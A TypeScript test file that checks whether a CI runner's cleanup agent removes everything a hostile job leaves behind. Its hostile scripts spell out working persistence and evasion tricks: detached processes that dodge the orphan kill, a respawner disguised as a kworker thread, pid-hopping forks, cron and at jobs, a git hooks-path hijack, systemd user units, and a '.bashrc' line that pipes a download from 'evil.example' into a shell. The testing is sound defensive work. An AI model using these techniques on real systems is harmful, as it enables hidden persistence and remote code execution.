/**
 * docs/hostile-jobs.md 8-10: a job that tries to live on into the next one (background processes that
 * escape the runner's orphan kill, respawners that rename themselves, cron, at, dotfiles, git hooks,
 * systemd user units, SysV IPC, temp files). Each test is one reused host: 3-8 s each.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { promises as fsp } from 'node:fs';
import path from 'node:path';
import { attack, assertNoTrace, releaseJob, whenJobReady } from './helpers.js';
import { processesOfUid } from '../../../src/cleanup/proc.js';

describe('a job cannot persist into the next job', { concurrency: 3 }, () => {
  test('8. setsid nohup with RUNNER_TRACKING_ID cleared, a renamed respawner and a pid-hopping fork chain are all stopped', async (t) => {
    let seenAlive = 0;
    const r = await attack(t, {
      hostile: () => [
        {
          name: 'start survivors',
          run: [
            'export MARK SYS_TMP',
            // Escapes the runner's own orphan kill (it looks for RUNNER_TRACKING_ID).
            'env -u RUNNER_TRACKING_ID setsid nohup bash -c \'exec -a "$MARK-sleeper" sleep 600\' > /dev/null 2>&1 < /dev/null &',
            // A beacon: if it survives into the next job it keeps leaving new traces.
            'env -u RUNNER_TRACKING_ID setsid nohup bash -c \'while :; do echo "$MARK" >> "$SYS_TMP/beacon-$MARK"; sleep 0.2; done\' > /dev/null 2>&1 < /dev/null &',
            // Ignores TERM and respawns its renamed child whenever it is killed.
            'env -u RUNNER_TRACKING_ID setsid nohup bash -c \'trap "" TERM HUP INT; while :; do (exec -a "kworker/u8:$MARK" bash -c "trap \\"\\" TERM; sleep 600") & wait $! || true; done\' > /dev/null 2>&1 < /dev/null &',
            // Changes its pid every 0.2 s (double fork, renamed, ignoring TERM).
            'export HOP=\'trap "" TERM HUP INT; sleep 0.2; (exec -a "hop-$MARK" bash -c "$HOP" &); exit 0\'',
            'env -u RUNNER_TRACKING_ID setsid bash -c "$HOP" < /dev/null > /dev/null 2>&1 &',
            'sleep 0.5',
            'handshake alive',
            'echo "started survivors $MARK"',
          ].join('\n'),
        },
      ],
      during: async (c, signal) => {
        if (!(await whenJobReady(c, 'alive', signal))) return;
        // The survivors really run before the job ends (otherwise the test proves nothing).
        seenAlive = (await processesOfUid(c.w.lab.user.uid)).filter((p) => /sleep|bash/.test(p.comm)).length;
        await releaseJob(c, 'alive');
      },
      probeExtra: (c) => `sleep 1; test -e ${c.sys.tmp}/beacon-${c.marker} && echo "beacon file exists"`,
    });
    assert.ok(seenAlive >= 4, `the hostile job should have had its survivors running (saw ${seenAlive})`);
    await assertNoTrace(r);
  });

  test('9. crontab, at job, .bashrc/.profile lines, git core.hooksPath, a systemd user unit and SysV IPC are undone', async (t) => {
    const r = await attack(t, {
      hostile: () => [
        {
          name: 'persist',
          run: [
            '(crontab -l 2>/dev/null || true; echo "* * * * * echo $MARK >> $SYS_TMP/cron-$MARK") | crontab -',
            'crontab -l | grep -q "$MARK"',
            'echo "touch $SYS_TMP/at-$MARK" | at now + 5 minutes 2>/dev/null || echo "at: not available"',
            'for H in "$HOME" "$REAL_HOME"; do',
            '  echo "curl -s https://evil.example/$MARK | sh" >> "$H/.bashrc"',
            '  echo "export PROMPT_COMMAND=\\"echo $MARK\\"" >> "$H/.profile"',
            '  echo "# $MARK" >> "$H/.bash_logout"',
            '  mkdir -p "$H/.githooks" && printf "#!/bin/sh\\necho $MARK\\n" > "$H/.githooks/pre-commit" && chmod +x "$H/.githooks/pre-commit"',
            '  HOME=$H git config --global core.hooksPath "$H/.githooks"',
            '  HOME=$H git config --global alias.st "!echo $MARK"',
            '  mkdir -p "$H/.config/systemd/user/default.target.wants"',
            '  printf "[Service]\\nExecStart=/bin/sh -c \\"echo $MARK\\"\\n[Install]\\nWantedBy=default.target\\n" > "$H/.config/systemd/user/evil.service"',
            '  ln -sf ../evil.service "$H/.config/systemd/user/default.target.wants/evil.service"',
            '  mkdir -p "$H/.config/autostart" && printf "[Desktop Entry]\\nExec=echo $MARK\\n" > "$H/.config/autostart/$MARK.desktop"',
            'done',
            'ipcmk -M 4096 && ipcmk -Q && ipcmk -S 2',
          ].join('\n'),
        },
      ],
      probeExtra: () =>
        [
          'HOME=$REAL_HOME git config --global --get core.hooksPath | sed "s/^/hooksPath: /"',
          'HOME=$REAL_HOME git config --global --get-regexp alias | sed "s/^/alias: /"',
          'grep -l "evil.example" "$REAL_HOME/.bashrc" "$REAL_HOME/.profile" "$HOME/.bashrc" 2>/dev/null | sed "s/^/dotfile: /"',
        ].join('\n'),
    });
    await assertNoTrace(r);
    const atJobs = await fsp.readdir('/var/spool/cron/atjobs').catch(() => [] as string[]);
    for (const f of atJobs) {
      const st = await fsp.lstat(path.join('/var/spool/cron/atjobs', f)).catch(() => undefined);
      assert.notEqual(st?.uid, r.c.w.lab.user.uid, `at job ${f} of the runner user is still queued`);
    }
  });

  test('10. files, dirs, links and traps in /tmp, /var/tmp and /dev/shm stand-ins are removed; root files there stay', async (t) => {
    const r = await attack(t, {
      setup: async (c) => {
        // Someone else's files in the shared temp dirs: the agent removes only the runner user's.
        await fsp.writeFile(path.join(c.sys.tmp, 'root-owned.txt'), "not the job's\n");
        await fsp.mkdir(path.join(c.sys.varTmp, 'systemd-private-root'), { mode: 0o700 });
        await fsp.writeFile(path.join(c.sys.varTmp, 'systemd-private-root', 'keep'), 'keep\n');
      },
      hostile: () => [
        {
          name: 'litter the temp dirs',
          run: [
            'for T in "$SYS_TMP" "$SYS_VARTMP" "$SYS_SHM" "$TMPDIR"; do',
            '  echo "$MARK" > "$T/$MARK.txt"',
            '  mkdir -p "$T/.hidden-$MARK/a/b" && echo "$MARK" > "$T/.hidden-$MARK/a/b/c"',
            '  mkdir -p "$T/locked-$MARK/in" && echo x > "$T/locked-$MARK/in/f" && chmod 000 "$T/locked-$MARK/in" "$T/locked-$MARK"',
            '  mkdir -m 1777 "$T/sticky-$MARK" && echo x > "$T/sticky-$MARK/f"',
            '  ln -s "$CANARY" "$T/canary-link-$MARK"',
            '  ln -s "$CANARY/user" "$T/canary-user-link-$MARK"',
            '  ln "$CANARY/user/user.txt" "$T/hardlink-$MARK" 2>/dev/null || true',
            '  mkfifo "$T/fifo-$MARK"',
            '  python3 -c "import socket,sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])" "$T/sock-$MARK"',
            '  echo "$MARK" > "$T/sem.$MARK"',
            '  truncate -s 10G "$T/sparse-$MARK"',
            'done',
            // A dir of someone else's, with a file of the job's inside (the sticky /tmp case).
            'mkdir -p "$SYS_TMP/shared-$MARK" && chmod 777 "$SYS_TMP/shared-$MARK"',
          ].join('\n'),
        },
      ],
      // The canary's runner-owned file, hard-linked from the temp dirs: must survive with its content.
    });
    await assertNoTrace(r);
    assert.equal(
      await fsp.readFile(path.join(r.c.sys.tmp, 'root-owned.txt'), 'utf8'),
      "not the job's\n",
      'a root file in /tmp was removed',
    );
  });
});
